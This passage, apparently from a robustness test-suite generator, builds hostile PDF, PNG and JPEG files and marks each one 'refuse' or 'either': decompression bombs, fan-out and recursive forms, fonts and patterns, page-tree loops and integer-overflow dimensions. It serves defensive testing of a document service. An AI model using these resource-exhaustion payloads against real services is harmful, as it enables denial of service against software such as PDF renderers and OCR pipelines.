    out += b"8 0 obj\n" + stm(
        bomb(4 * GB, 2, b"\0"), b"/Type /XRef /Size 600000000 /W [1 4 2] /Root 1 0 R", b"[%s %s]" % (FL, FL)
    )
    return bytes(out) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % x


add("bomb-png-valid-30000x30000-1bit.png", "refuse", lambda: png_bomb(30000, 30000, 1, 0))
add("bomb-png-valid-20000x20000-rgba.png", "refuse", lambda: png_bomb(20000, 20000, 8, 6))
add("bomb-png-valid-palette-60000x20000.png", "refuse", lambda: png_bomb(60000, 20000, 1, 3))
add("bomb-png-interlaced-25000x25000.png", "refuse", lambda: png_bomb(25000, 25000, 1, 0, 1))
add("bomb-png-16bit-rgba-61mp.png", "refuse", lambda: png_bomb(7811, 7811, 16, 6))
add("bomb-png-header-2e31.png", "refuse", lambda: png(2147483647, 2147483647, z(bytes(100))))
add("bomb-png-header-4e9.png", "refuse", lambda: png(4294967295, 4294967295, z(bytes(100))))
add("bomb-png-header-2e31x1.png", "refuse", lambda: png(2147483647, 1, z(bytes(100)), 1))
add("bomb-png-header-100000-interlaced.png", "refuse", lambda: png(100000, 100000, z(bytes(100)), 16, 6, 1))
add("png-1x1000000.png", "either", lambda: png_bomb(1, 1000000, 8, 0), "1 MP only, but 1,000,000 pixels tall")
add("png-32768x1.png", "either", lambda: png_bomb(32768, 1, 8, 0))
add(
    "bomb-png-idat-longer-1gb.png",
    "refuse",
    lambda: png(100, 100, bomb(GB, 1, b"\0")),
    "extra data behind the last row may simply be ignored by the decoder",
)
add("bomb-png-iccp-1gb.png", "either", lambda: splice_png(chunk(b"iCCP", b"icc\0\0" + bomb(GB, 1, b"\0"))))
add("bomb-png-ztxt-1gb.png", "either", lambda: splice_png(chunk(b"zTXt", b"Comment\0\0" + bomb(GB, 1, b"A"))))
add(
    "bomb-png-itxt-1gb.png",
    "either",
    lambda: splice_png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + bomb(GB, 1, b"A"))),
)
add(
    "bomb-png-ztxt-400-chunks.png",
    "either",
    lambda: splice_png(chunk(b"zTXt", b"Comment\0\0" + bomb(MB, 1, b"A")) * 400),
)
add(
    "bomb-png-15000-empty-idat.png",
    "either",
    lambda: splice_png(chunk(b"IDAT", b"") * 15000, where=base_png().index(b"IDAT") - 4),
)
add("bomb-png-20000-unknown-chunks.png", "either", lambda: splice_png(chunk(b"quXx", b"") * 20000))
add("bomb-jpeg-65500x65500-header.jpg", "refuse", lambda: jpeg_flat(65500, 65500, cut=50))
add("bomb-jpeg-65535x65535-header.jpg", "refuse", lambda: jpeg_flat(65535, 65535, n=3, cut=50))
add("bomb-jpeg-65500x1000-header.jpg", "refuse", lambda: jpeg_flat(65500, 1000, cut=50))
add("bomb-jpeg-valid-61mp.jpg", "refuse", lambda: jpeg_flat(7808, 7816))
add("bomb-jpeg-valid-177mp.jpg", "refuse", lambda: jpeg_flat(13312, 13312))
add("bomb-jpeg-progressive-header-64000.jpg", "refuse", lambda: jpeg_scans(64000, 64000, 0)[:400] + b"\xff\xd9")
add(
    "bomb-jpeg-3000-scans-49mp.jpg",
    "refuse",
    lambda: jpeg_scans(7000, 7000, 3000),
    "49 MP, 3,000 AC scans: minutes of CPU in libjpeg; a service that got through it in time would not be wrong to take it",
)
add("bomb-jpeg-12000-scans-4mp.jpg", "refuse", lambda: jpeg_scans(2000, 2000, 12000), "as above, 4 MP")
add("bomb-jpeg-2000-dc-scans-small.jpg", "either", lambda: jpeg_scans(64, 64, 2000, dc=True))
add(
    "bomb-jpeg-two-sof.jpg",
    "refuse",
    lambda: (
        b"\xff\xd8"
        + JFIF
        + DQT
        + sof(0xC0, 800, 600)
        + sof(0xC0, 13312, 13312)
        + DHT
        + sos()
        + bytes(692225)
        + b"\xff\xd9"
    ),
)
add(
    "bomb-jpeg-sampling-4x4.jpg",
    "either",
    lambda: b"\xff\xd8" + JFIF + DQT + sof(0xC0, 800, 600, 3, samp=0x44) + DHT + sos(3) + bytes(20000) + b"\xff\xd9",
)
add("bomb-jpeg-20000-app-segments.jpg", "either", lambda: with_seg(base_jpeg(), seg(0xE5, b"x" * 8) * 20000))

# ============================================================= forms, patterns, fonts, shadings


def _fan(width: int, depth: int, leaf: bytes = b"0 0 1 1 re f") -> bytes:
    ex = []
    for i in range(depth):
        if i == depth - 1:
            ex.append(form(leaf))
        else:
            ex.append(form(b"/X Do\n" * width, b"/XObject << /X %d 0 R >>" % (11 + i)))
    return page(b"/X Do\n" * width, xobj=b"/X 10 0 R", extra=ex)


add("form-fanout-10-deep-12.pdf", "refuse", lambda: _fan(10, 12))
add("form-fanout-2-deep-25.pdf", "refuse", lambda: _fan(2, 25))
add("form-fanout-1000-deep-3.pdf", "refuse", lambda: _fan(1000, 3))
add("form-fanout-10-deep-12-empty-leaf.pdf", "refuse", lambda: _fan(10, 12, b" "))


@case("form-fanout-distinct-names-10-deep-12.pdf", "refuse")
def _():
    ex = []
    for lvl in range(12):
        for _k in range(10):
            kids = b" ".join(b"/X%d %d 0 R" % (j, 10 + (lvl + 1) * 10 + j) for j in range(10)) if lvl < 11 else b""
            ex.append(
                form(
                    b" ".join(b"/X%d Do" % j for j in range(10)) if lvl < 11 else b"0 0 1 1 re f",
                    b"/XObject << " + kids + b" >>",
                )
            )
    return page(
        b" ".join(b"/X%d Do" % j for j in range(10)),
        xobj=b" ".join(b"/X%d %d 0 R" % (j, 10 + j) for j in range(10)),
        extra=ex,
    )


add(
    "form-fanout-resources-from-page.pdf",
    "refuse",
    lambda: page(
        b"/X0 Do " * 10,
        xobj=b" ".join(b"/X%d %d 0 R" % (i, 10 + i) for i in range(12)),
        extra=[
            stm(
                b"/X%d Do " % (i + 1) * 10 if i < 11 else b"0 0 1 1 re f",
                b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]",
            )
            for i in range(12)
        ],
    ),
)
add(
    "form-fanout-in-annotation-appearance.pdf",
    "refuse",
    lambda: page(
        pg=b"/Annots [40 0 R]",
        extra={
            40: b"<< /Type /Annot /Subtype /Stamp /Rect [10 10 200 200] /F 4 /AP << /N 10 0 R >> >>",
            **{
                10 + i: form(
                    b"/X Do\n" * 10 if i < 11 else b"0 0 1 1 re f",
                    b"/XObject << /X %d 0 R >>" % (11 + i) if i < 11 else b"",
                )
                for i in range(12)
            },
        },
    ),
)
add("form-chain-1000-deep.pdf", "either", lambda: _fan(1, 1000))
add(
    "form-self-reference.pdf",
    "either",
    lambda: page(b"/X Do", xobj=b"/X 10 0 R", extra=[form(b"0 0 9 9 re f /X Do", b"/XObject << /X 10 0 R >>")]),
    "a cyclic form is malformed, but PDFium draws it once and stops",
)
add(
    "form-self-reference-10-times.pdf",
    "either",
    lambda: page(
        b"/X Do " * 10, xobj=b"/X 10 0 R", extra=[form(b"0 0 9 9 re f " + b"/X Do " * 10, b"/XObject << /X 10 0 R >>")]
    ),
)
add(
    "form-mutual-recursion.pdf",
    "either",
    lambda: page(
        b"/X Do",
        xobj=b"/X 10 0 R",
        extra=[form(b"/Y Do", b"/XObject << /Y 11 0 R >>"), form(b"/X Do", b"/XObject << /X 10 0 R >>")],
    ),
)
add(
    "form-mutual-recursion-ring-of-12-fan-10.pdf",
    "refuse",
    lambda: page(
        b"/X Do",
        xobj=b"/X 10 0 R",
        extra=[form(b"/X Do " * 10, b"/XObject << /X %d 0 R >>" % (10 + (i + 1) % 12)) for i in range(12)],
    ),
)
add("q-nesting-100k.pdf", "either", lambda: page(z(b"q " * 100_000), filt=FL))
add(
    "q-nesting-100k-balanced-with-state.pdf",
    "either",
    lambda: page(z(b"q 1 0 0 1 0 0 cm 0 0 1 1 re W n " * 100_000 + b"Q " * 100_000), filt=FL),
)
add("q-nesting-1-billion.pdf", "refuse", lambda: page(bomb(2 * GB, 2, b"q "), filt=b"[%s %s]" % (FL, FL)))
add("unbalanced-Q-100k.pdf", "either", lambda: page(z(b"Q " * 100_000), filt=FL))
add("marked-content-nesting-100k.pdf", "either", lambda: page(z(b"/A BMC " * 100_000), filt=FL))


def pattern(content: bytes, step: bytes, res: bytes = b"", bbox: bytes = b"[0 0 10 10]") -> bytes:
    return stm(
        content,
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox "
        + bbox
        + b" /XStep "
        + step
        + b" /YStep "
        + step
        + b" /Resources << "
        + res
        + b" >>",
    )


FILLP = b"/Pattern cs /P scn 0 0 595 842 re f"
add(
    "pattern-nested-8-deep.pdf",
    "refuse",
    lambda: page(
        FILLP,
        res=b"/Pattern << /P 10 0 R >>",
        extra=[
            pattern(FILLP if i < 7 else b"0 0 1 1 re f", b"1", b"/Pattern << /P %d 0 R >>" % (11 + i) if i < 7 else b"")
            for i in range(8)
        ],
    ),
    "PDFium may flatten or skip nested patterns; taken quickly is harmless",
)
add(
    "pattern-self-reference.pdf",
    "either",
    lambda: page(FILLP, res=b"/Pattern << /P 10 0 R >>", extra=[pattern(FILLP, b"5", b"/Pattern << /P 10 0 R >>")]),
)
add(
    "pattern-mutual-with-form.pdf",
    "either",
    lambda: page(
        FILLP,
        res=b"/Pattern << /P 10 0 R >>",
        extra=[pattern(b"/X Do", b"5", b"/XObject << /X 11 0 R >>"), form(FILLP, b"/Pattern << /P 10 0 R >>")],
    ),
)
add(
    "pattern-step-1e-6.pdf",
    "either",
    lambda: page(FILLP, res=b"/Pattern << /P 10 0 R >>", extra=[pattern(b"0 0 1 1 re f", b"0.000001")]),
)
add(
    "pattern-step-zero.pdf",
    "either",
    lambda: page(FILLP, res=b"/Pattern << /P 10 0 R >>", extra=[pattern(b"0 0 1 1 re f", b"0")]),
)
add(
    "pattern-cell-1e9.pdf",
    "either",
    lambda: page(
        FILLP,
        res=b"/Pattern << /P 10 0 R >>",
        extra=[pattern(b"0 0 1000000000 1000000000 re f", b"1", b"", b"[0 0 1000000000 1000000000]")],
    ),
)
add(
    "pattern-with-form-fanout.pdf",
    "refuse",
    lambda: page(
        FILLP,
        res=b"/Pattern << /P 10 0 R >>",
        extra=[pattern(b"/X Do " * 10, b"10", b"/XObject << /X 11 0 R >>")]
        + [
            form(
                b"/X Do " * 10 if i < 10 else b"0 0 1 1 re f", b"/XObject << /X %d 0 R >>" % (12 + i) if i < 10 else b""
            )
            for i in range(11)
        ],
    ),
)


def type3(proc: bytes, res: bytes) -> bytes:
    return (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a "
        + proc
        + b" >> /Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] /Resources << "
        + res
        + b" >> >>"
    )


SAYA = b"BT /F2 12 Tf 60 60 Td (aaaaaaaaaa) Tj ET"
add(
    "type3-recursion.pdf",
    "either",
    lambda: page(
        SAYA, fonts=b"/F2 10 0 R", extra=[type3(b"11 0 R", b"/Font << /F2 10 0 R >>"), stm(b"1000 0 d0 " + SAYA)]
    ),
)
add(
    "type3-mutual-recursion.pdf",
    "either",
    lambda: page(
        SAYA,
        fonts=b"/F2 10 0 R",
        extra=[
            type3(b"12 0 R", b"/Font << /F2 11 0 R >>"),
            type3(b"12 0 R", b"/Font << /F2 10 0 R >>"),
            stm(b"1000 0 d0 " + SAYA),
        ],
    ),
)
add(
    "type3-fanout-10-deep-10.pdf",
    "refuse",
    lambda: page(
        SAYA,
        fonts=b"/F2 10 0 R",
        extra=[
            *(
                type3(b"20 0 R" if i < 9 else b"21 0 R", b"/Font << /F2 %d 0 R >>" % (11 + i) if i < 9 else b"")
                for i in range(10)
            ),
            stm(b"1000 0 d0 " + SAYA),
            stm(b"1000 0 0 0 1000 1000 d1 0 0 500 500 re f"),
        ],
    ),
    "PDFium may cache or cut off nested Type3 glyphs; taken quickly is harmless",
)
add(
    "type3-glyph-form-fanout.pdf",
    "refuse",
    lambda: page(
        SAYA,
        fonts=b"/F2 10 0 R",
        extra=[
            type3(b"11 0 R", b"/XObject << /X 12 0 R >>"),
            stm(b"1000 0 d0 " + b"/X Do " * 10),
            *(
                form(
                    b"/X Do " * 10 if i < 10 else b"0 0 1 1 re f",
                    b"/XObject << /X %d 0 R >>" % (13 + i) if i < 10 else b"",
                )
                for i in range(11)
            ),
        ],
    ),
)
GRP = b"/Group << /S /Transparency /CS /DeviceGray /I true >>"


def gs_mask(n: int) -> bytes:
    return b"<< /Type /ExtGState /SMask << /Type /Mask /S /Luminosity /G %d 0 R >> >>" % n


add(
    "softmask-self-recursion.pdf",
    "either",
    lambda: page(
        b"/G0 gs 0 0 500 500 re f",
        res=b"/ExtGState << /G0 10 0 R >>",
        extra=[gs_mask(11), form(b"/G0 gs 0 0 500 500 re f", b"/ExtGState << /G0 10 0 R >>", GRP)],
    ),
)
add(
    "softmask-mutual-recursion.pdf",
    "either",
    lambda: page(
        b"/G0 gs 0 0 500 500 re f",
        res=b"/ExtGState << /G0 10 0 R >>",
        extra=[
            gs_mask(12),
            gs_mask(13),
            form(b"/G0 gs 0 0 500 500 re f", b"/ExtGState << /G0 11 0 R >>", GRP),
            form(b"/G0 gs 0 0 500 500 re f", b"/ExtGState << /G0 10 0 R >>", GRP),
        ],
    ),
)
add(
    "softmask-fanout-4-deep-12.pdf",
    "refuse",
    lambda: page(
        b"/G0 gs 0 0 500 500 re f",
        res=b"/ExtGState << /G0 10 0 R >>",
        extra=[
            o
            for i in range(12)
            for o in (
                gs_mask(11 + 2 * i),
                form(
                    b"/G0 gs 0 0 500 500 re f " * 4 if i < 11 else b"1 g 0 0 500 500 re f",
                    b"/ExtGState << /G0 %d 0 R >>" % (12 + 2 * i) if i < 11 else b"",
                    GRP,
                ),
            )
        ],
    ),
)
add(
    "transparency-groups-2000-full-page.pdf",
    "either",
    lambda: page(
        b"/X Do " * 2000,
        xobj=b"/X 10 0 R",
        res=b"/ExtGState << /G0 << /ca 0.999 /BM /Luminosity >> >>",
        extra=[
            form(
                b"/G0 gs 0.99 g 0 0 595 842 re f",
                b"/ExtGState << /G0 << /ca 0.999 /BM /Luminosity >> >>",
                b"/Group << /S /Transparency /I true /K true >>",
            )
        ],
    ),
)
add(
    "image-smask-self-reference.pdf",
    "either",
    lambda: image_page(z(b"\x80" * 10000), 100, 100, FL, more=b"/SMask 10 0 R /Mask 10 0 R"),
)


def _shade(sh: bytes, *extra: bytes) -> bytes:
    return page(b"/S0 sh", res=b"/Shading << /S0 10 0 R >>", extra=[sh, *extra])


AX = b"<< /ShadingType 2 /ColorSpace /DeviceGray /Coords [0 0 595 842] /Function 11 0 R /Extend [true true] >>"
add(
    "shading-sampled-function-1e10.pdf",
    "refuse",
    lambda: _shade(
        b"<< /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 595 0 842] /Function 11 0 R >>",
        stm(
            bomb(10 * GB, 2, b"\x55"),
            b"/FunctionType 0 /Domain [0 595 0 842] /Range [0 1] /Size [100000 100000] /BitsPerSample 8",
            b"[%s %s]" % (FL, FL),
        ),
    ),
)
add(
    "shading-sampled-function-size-overflow.pdf",
    "either",
    lambda: _shade(
        AX, zs(bytes(100), b"/FunctionType 0 /Domain [0 1] /Range [0 1] /Size [2147483647] /BitsPerSample 32")
    ),
)
add(
    "shading-sampled-8-inputs.pdf",
    "either",
    lambda: page(
        b"/CS0 cs 0 0 0 0 0 0 0 0 scn 0 0 500 500 re f",
        res=b"/ColorSpace << /CS0 [/DeviceN [/A /B /C /D /E /F /G /H] /DeviceRGB 10 0 R] >>",
        extra=[
            zs(
                bytes(100),
                b"/FunctionType 0 /Domain ["
                + b"0 1 " * 8
                + b"] /Range [0 1 0 1 0 1] /Size ["
                + b"255 " * 8
                + b"] /BitsPerSample 32",
            )
        ],
    ),
)
add(
    "shading-postscript-200k-ops.pdf",
    "either",
    lambda: _shade(AX, zs(b"{ " + b"dup mul sqrt " * 70000 + b" }", b"/FunctionType 4 /Domain [0 1] /Range [0 1]")),
)
add(
    "shading-postscript-braces-100k.pdf",
    "either",
    lambda: _shade(AX, zs(b"{" * 100000 + b"}" * 100000, b"/FunctionType 4 /Domain [0 1] /Range [0 1]")),
)
add(
    "shading-postscript-roll-2e9.pdf",
    "either",
    lambda: _shade(
        AX,
        zs(
            b"{ 2147483647 copy 2147483647 2147483647 roll -2147483648 -1 idiv }",
            b"/FunctionType 4 /Domain [0 1] /Range [0 1]",
        ),
    ),
)
add(
    "shading-stitching-self-reference.pdf",
    "either",
    lambda: _shade(
        AX, b"<< /FunctionType 3 /Domain [0 1] /Functions [11 0 R 11 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>"
    ),
)
add(
    "shading-stitching-fanout-10-deep-10.pdf",
    "refuse",
    lambda: _shade(
        AX,
        *(
            b"<< /FunctionType 3 /Domain [0 1] /Functions ["
            + b"%d 0 R " % (12 + i) * 10
            + b"] /Bounds [.1 .2 .3 .4 .5 .6 .7 .8 .9] /Encode ["
            + b"0 1 " * 10
            + b"] >>"
            if i < 9
            else b"<< /FunctionType 2 /Domain [0 1] /C0 [0] /C1 [1] /N 1 >>"
            for i in range(10)
        ),
    ),
)
add(
    "shading-mesh-2gb.pdf",
    "refuse",
    lambda: _shade(
        stm(
            bomb(2 * GB, 2, b"\0\x10\x20\x30"),
            b"/ShadingType 4 /ColorSpace /DeviceGray /BitsPerCoordinate 8 /BitsPerComponent 8 "
            b"/BitsPerFlag 8 /Decode [0 595 0 842 0 1]",
            b"[%s %s]" % (FL, FL),
        )
    ),
)
add(
    "shading-lattice-verticesperrow-2e9.pdf",
    "either",
    lambda: _shade(
        zs(
            bytes(1000),
            b"/ShadingType 5 /ColorSpace /DeviceGray /BitsPerCoordinate 8 /BitsPerComponent 8 /VerticesPerRow 2147483647 "
            b"/Decode [0 595 0 842 0 1]",
        )
    ),
)
add(
    "shading-coons-50k-patches.pdf",
    "either",
    lambda: _shade(
        zs(
            b"\0"
            + bytes(range(24))
            + b"\x10\x20\x30\x40" * 1
            + (b"\0" + bytes(range(0, 240, 10)) + b"\x10\x20\x30\x40") * 50000,
            b"/ShadingType 6 /ColorSpace /DeviceGray /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 /Decode [0 595 0 842 0 1]",
        )
    ),
)
add("path-dash-1e-6-over-1e7.pdf", "either", lambda: page(b"[0.000001 0.000001] 0 d 0 0 m 10000000 10000000 l S"))
add(
    "path-300k-curves-stroked.pdf",
    "either",
    lambda: page(z(b"0 0 m " + b"0 800 500 0 500 800 c 500 0 0 800 0 0 c " * 150_000 + b"5 w S"), filt=FL),
)
add(
    "clip-20k-nested-paths.pdf",
    "either",
    lambda: page(z(b"0 0 m 500 1 l 1 800 l h W n " * 20000 + b"0 0 500 500 re f"), filt=FL),
)
add(
    "text-font-size-1e9.pdf",
    "either",
    lambda: page(b"BT /F1 1000000000 Tf 0 0 Td (AAAA) Tj ET 99999999999 0 0 99999999999 0 0 cm 0 0 1 1 re f"),
)
add(
    "numbers-with-50k-digits.pdf",
    "either",
    lambda: page(b"9" * 50000 + b" 0 0 1 0 0 cm -" + b"0" * 50000 + b".1e5 0 m S"),
)
add(
    "colorspace-indexed-loop.pdf",
    "either",
    lambda: image_page(z(b"\x80" * 10000), 100, 100, FL, b"11 0 R", extra=[b"[/Indexed 11 0 R 255 <00>]"]),
)
add(
    "colorspace-chain-5000.pdf",
    "either",
    lambda: page(
        b"/CS0 cs 0 scn 0 0 5 5 re f",
        res=b"/ColorSpace << /CS0 10 0 R >>",
        extra=[b"[/Pattern %d 0 R]" % (11 + i) if i < 4999 else b"/DeviceGray" for i in range(5000)],
    ),
)
add(
    "colorspace-devicen-5000-components.pdf",
    "either",
    lambda: page(
        b"/CS0 cs " + b"0 " * 5000 + b"scn 0 0 5 5 re f",
        res=b"/ColorSpace << /CS0 [/DeviceN ["
        + b" ".join(b"/C%d" % i for i in range(5000))
        + b"] /DeviceGray 10 0 R] >>",
        extra=[b"<< /FunctionType 2 /Domain [0 1] /C0 [0] /C1 [1] /N 1 >>"],
    ),
)
add(
    "font-broken-truetype.pdf",
    "either",
    lambda: page(
        b"BT /F2 40 Tf 60 60 Td (ABC) Tj ET",
        fonts=b"/F2 10 0 R",
        extra=[
            b"<< /Type /Font /Subtype /TrueType /BaseFont /Bad /FirstChar 65 /LastChar 67 /Widths [500 500 500] /FontDescriptor 11 0 R >>",
            b"<< /Type /FontDescriptor /FontName /Bad /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0 /Ascent 1 /Descent 0 /CapHeight 1 /StemV 1 /FontFile2 12 0 R >>",
            zs(_font()[0][:300] + random.Random(7).randbytes(9000)),
        ],
    ),
)
add(
    "font-cmap-usecmap-loop.pdf",
    "either",
    lambda: page(
        b"BT /F2 12 Tf 60 60 Td <0041> Tj ET",
        fonts=b"/F2 10 0 R",
        extra=[
            b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 11 0 R /DescendantFonts [12 0 R] /ToUnicode 11 0 R >>",
            stm(
                b"/CIDInit /ProcSet findresource begin begincmap 1 begincidrange <0000> <ffffffff> 0 endcidrange endcmap end",
                b"/Type /CMap /CMapName /X /UseCMap 11 0 R /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >>",
            ),
            (
                b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (A) /Ordering (B) /Supplement 0 >> "
                b"/W [0 2147483647 500] /DW 1000 /FontDescriptor 6 0 R >>"
            ),
        ],
    ),
)
add(
    "font-type0-descendant-is-itself.pdf",
    "either",
    lambda: page(
        b"BT /F2 12 Tf 60 60 Td <0041> Tj ET",
        fonts=b"/F2 10 0 R",
        extra=[b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [10 0 R] >>"],
    ),
)

# ============================================================= pages

add("page-200-inch.pdf", "refuse", lambda: page(box=b"[0 0 14400 14400]"))
add("page-1e6-pt.pdf", "refuse", lambda: page(box=b"[0 0 1000000 1000000]"))
add("page-2800pt-61mp.pdf", "refuse", lambda: page(box=b"[0 0 2800 2800]"))
add(
    "page-strip-3x14400pt.pdf",
    "either",
    lambda: page(box=b"[0 0 3 14400]"),
    "8 x 40,000 px: small, but beyond Tesseract's 32,767",
)
add("page-half-point.pdf", "either", lambda: page(box=b"[0 0 0.2 0.2]"))
add("page-zero-size.pdf", "either", lambda: page(box=b"[0 0 0 0]"), "PDFium falls back to Letter")
add(
    "page-userunit-1000.pdf",
    "refuse",
    lambda: page(pg=b"/UserUnit 1000"),
    "PDFium ignores UserUnit when rendering, but by the standard the page is 595,000 pt (210 m) wide and PDF/A would keep it",
)
add("page-userunit-2.pdf", "either", lambda: page(pg=b"/UserUnit 2"))
add("page-userunit-negative.pdf", "either", lambda: page(pg=b"/UserUnit -1"))
add(
    "page-mediabox-swapped.pdf",
    "either",
    lambda: page(box=b"[595 842 0 0]"),
    "valid by the standard (any two opposite corners)",
)
add("page-mediabox-negative-size-huge.pdf", "refuse", lambda: page(box=b"[30000 30000 -30000 -30000]"))
add("page-mediabox-nan.pdf", "either", lambda: page(box=b"[0 0 NaN Inf]"))
add(
    "page-mediabox-1e400.pdf",
    "refuse",
    lambda: page(box=b"[0 0 1e400 1e400]"),
    "exponents are not PDF numbers; readers may see 1",
)
add(
    "page-mediabox-40-digits.pdf",
    "refuse",
    lambda: page(box=b"[0 0 " + b"9" * 40 + b" " + b"9" * 40 + b"]"),
    "readers may clamp or overflow the number",
)
add(
    "page-mediabox-int-overflow.pdf",
    "refuse",
    lambda: page(box=b"[0 0 4294967891 4294968138]"),
    "wraps to 595 x 842 in a 32-bit reader",
)
add("page-mediabox-strings.pdf", "either", lambda: page(box=b"[(0) /0 null << >>]"))
add("page-mediabox-3-numbers.pdf", "either", lambda: page(box=b"[0 0 595]"))
add("page-mediabox-missing.pdf", "either", lambda: page(box=None))
add("page-mediabox-self-array.pdf", "either", lambda: page(box=b"10 0 R", extra=[b"[10 0 R 10 0 R 10 0 R 10 0 R]"]))
add(
    "page-mediabox-inherit-loop.pdf",
    "either",
    lambda: page(
        box=None,
        over={2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 10 0 R >>"},
        extra=[b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"],
    ),
)
add(
    "page-parent-is-itself.pdf",
    "either",
    lambda: page(over={3: b"<< /Type /Page /Parent 3 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"}),
)
add("page-cropbox-larger-than-media.pdf", "either", lambda: page(pg=b"/CropBox [-100000 -100000 100000 100000]"))
add(
    "page-mediabox-huge-cropbox-a4.pdf",
    "either",
    lambda: page(box=b"[0 0 1000000 1000000]", pg=b"/CropBox [0 0 595 842]"),
    "the visible page is A4",
)
add("page-cropbox-empty.pdf", "either", lambda: page(pg=b"/CropBox [100 100 100 100]"))
add("page-rotate-45.pdf", "either", lambda: page(pg=b"/Rotate 45"))
add("page-rotate-2147483640.pdf", "either", lambda: page(pg=b"/Rotate 2147483640"))


def many_pages(n: int, box: bytes = A4, content: bool = True, same: bool = False, count: bytes | None = None) -> bytes:
    o = _base_objs()
    c = b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>" if content else b""
    pg = b"<< /Type /Page /Parent 2 0 R /MediaBox " + box + b" " + c + b" >>"
    if same:
        o[3] = pg
        kids = b"3 0 R " * n
    else:
        del o[3]
        o.update({10 + i: pg for i in range(n)})
        kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(n))
    o[2] = b"<< /Type /Pages /Kids [" + kids + b"] /Count " + (count or b"%d" % n) + b" >>"
    return write_pdf(o)


add(
    "pages-100-blank-2700pt.pdf",
    "either",
    lambda: many_pages(100, b"[0 0 2700 2700]", False),
    "inside both limits (56 MP, 100 pages) but 5.6 gigapixels of rendering and OCR in total",
)
add("pages-101.pdf", "refuse", lambda: many_pages(101))
add("pages-10000.pdf", "refuse", lambda: many_pages(10000))
add("pages-one-page-listed-5000-times.pdf", "refuse", lambda: many_pages(5000, same=True))
add(
    "pages-500-count-says-1.pdf",
    "refuse",
    lambda: many_pages(500, count=b"1"),
    "a reader that trusts /Count sees one page only",
)
add("pages-count-2e31.pdf", "either", lambda: many_pages(1, count=b"2147483647"), "one real page")
add("pages-count-minus-1.pdf", "either", lambda: many_pages(3, count=b"-1"))
add("pages-none.pdf", "refuse", lambda: page(over={2: b"<< /Type /Pages /Kids [] /Count 0 >>", 3: b"null"}))
add(
    "pages-missing.pdf",
    "refuse",
    lambda: page(over={1: b"<< /Type /Catalog >>"}),
    "readers that rebuild the page list may still find the page object",
)
add("pages-dangling.pdf", "refuse", lambda: page(over={1: b"<< /Type /Catalog /Pages 999 0 R >>"}))
add("pages-kid-is-integer.pdf", "refuse", lambda: page(over={2: b"<< /Type /Pages /Kids [42 (x) null] /Count 3 >>"}))
add("pages-root-missing.pdf", "refuse", lambda: page(root=b"null"))
add("pages-root-is-page.pdf", "either", lambda: page(root=b"3 0 R"))
add("page-tree-loop.pdf", "refuse", lambda: page(over={2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"}))
add(
    "page-tree-loop-two-nodes.pdf",
    "refuse",
    lambda: page(
        over={2: b"<< /Type /Pages /Kids [10 0 R 3 0 R] /Count 2 >>"},
        extra=[b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 2 >>"],
    ),
)
add(
    "page-tree-5000-deep.pdf",
    "either",
    lambda: page(
        over={2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>", 3: b"null"},
        extra=[
            b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (9 + i if i else 2, 11 + i)
            if i < 4999
            else b"<< /Type /Page /Parent 5008 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
            for i in range(5000)
        ],
    ),
)
add(
    "page-tree-exponential-10e10.pdf",
    "refuse",
    lambda: page(
        over={2: b"<< /Type /Pages /Kids [" + b"10 0 R " * 10 + b"] /Count 10000000000 >>", 3: b"null"},
        extra=[
            b"<< /Type /Pages /Parent 2 0 R /Kids [" + b"%d 0 R " % (11 + i) * 10 + b"] /Count 1000000000 >>"
            if i < 9
            else b"<< /Type /Page /Parent 18 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
            for i in range(10)
        ],
    ),
)
add(
    "page-contents-self-array.pdf",
    "either",
    lambda: page(
        over={3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 10 0 R /Resources << >> >>"},
        extra=[b"[10 0 R 10 0 R 10 0 R]"],
    ),
)
add(
    "page-resources-inherited-loop.pdf",
    "either",
    lambda: page(
        over={3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 10 0 R >>"},
        extra=[b"<< /Font 10 0 R /XObject 10 0 R /F1 10 0 R >>"],
    ),
)
add(
    "outline-next-loop.pdf",
    "either",
    lambda: page(
        cat=b"/Outlines 10 0 R",
        extra=[
            b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 2147483647 >>",
            b"<< /Title (a) /Parent 10 0 R /Next 11 0 R /Prev 11 0 R /First 11 0 R /Last 11 0 R /Count 9 >>",
        ],
    ),
)
add(
    "name-tree-loop.pdf",
    "either",
    lambda: page(
        cat=b"/Names << /Dests 10 0 R >> /PageLabels 10 0 R", extra=[b"<< /Kids [10 0 R 10 0 R] /Limits [(a) (z)] >>"]
    ),
)
add(
    "struct-tree-loop.pdf",
    "either",
    lambda: page(
        cat=b"/StructTreeRoot 10 0 R /MarkInfo << /Marked true >>",
        extra=[
